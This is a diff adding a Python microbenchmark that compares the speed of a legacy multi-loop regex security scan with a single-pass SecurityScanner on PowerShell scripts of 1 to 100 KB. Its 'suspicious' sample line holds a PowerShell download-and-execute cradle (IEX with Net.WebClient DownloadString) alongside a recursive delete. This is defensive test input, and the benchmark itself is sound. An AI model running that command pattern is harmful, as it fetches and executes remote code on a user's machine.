@@ -0,0 +1,76 @@
+"""
+Microbenchmark: per-command cost of the Python-side security scan.
+
+Compares the old path (AntiPatternDetector, RiskClassifier and the Intent validator
+each lowercasing and looping over their own regex lists) with the single-pass
+SecurityScanner, on 1 KB to 100 KB scripts.
+
+Usage: python tests/bench_security_scan.py [--repeat N]
+"""
+import sys
+import os
+import re
+import time
+import argparse
+
+# Add project root to sys.path
+sys.path.append(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from core.security.scanner import DEFAULT_RULES, SecurityScanner
+
+BENIGN_LINE = "Get-ChildItem -Path $HOME\\Documents -Filter *.txt | Where-Object { $_.Length -gt 1000 } | Select-Object Name, Length\n"
+SUSPICIOUS_LINE = "Remove-Item $env:TEMP\\*.tmp -Recurse; IEX (New-Object Net.WebClient).DownloadString('http://x') | Out-File C:\\Windows\\x.log\n"
+
+SIZES = [1024, 10 * 1024, 100 * 1024]
+
+def build_script(line: str, size: int) -> str:
+    return (line * (size // len(line) + 1))[:size]
+
+def legacy_scan(command: str):
+    """The pre-scanner behaviour: three independent loops of uncompiled re.search."""
+    by_source = {}
+    for source in ["anti_pattern", "risk_critical", "risk_routine"]:
+        cmd_lower = command.lower()
+        for rule in DEFAULT_RULES:
+            if rule.source == source and re.search(rule.pattern, cmd_lower):
+                by_source.setdefault(source, []).append(rule.rule_id)
+    for rule in DEFAULT_RULES:
+        if rule.source == "schema" and re.search(rule.pattern, command, re.IGNORECASE):
+            by_source.setdefault("schema", []).append(rule.rule_id)
+    return by_source
+
+def time_per_call(func, arg, repeat: int) -> float:
+    func(arg) # Warm up (regex compile cache)
+    start = time.perf_counter()
+    for _ in range(repeat):
+        func(arg)
+    return (time.perf_counter() - start) / repeat
+
+def run(repeat: int) -> list:
+    scanner = SecurityScanner(DEFAULT_RULES)
+    results = []
+    for label, line in [("benign", BENIGN_LINE), ("suspicious", SUSPICIOUS_LINE)]:
+        for size in SIZES:
+            script = build_script(line, size)
+            legacy = time_per_call(legacy_scan, script, repeat)
+            unified = time_per_call(scanner.scan, script, repeat)
+            results.append({
+                "case": f"{label}_{size // 1024}kb",
+                "legacy_us": round(legacy * 1e6, 1),
+                "unified_us": round(unified * 1e6, 1),
+                "speedup": round(legacy / unified, 1) if unified else None
+            })
+    return results
+
+def main():
+    parser = argparse.ArgumentParser(description="Security scan microbenchmark")
+    parser.add_argument("--repeat", type=int, default=20)
+    args = parser.parse_args()
+
+    print(f"{'case':<18}{'legacy (us)':>14}{'unified (us)':>14}{'speedup':>10}")
+    print("-" * 56)
+    for row in run(args.repeat):
+        print(f"{row['case']:<18}{row['legacy_us']:>14}{row['unified_us']:>14}{row['speedup']:>9}x")
+
+if __name__ == "__main__":
+    main()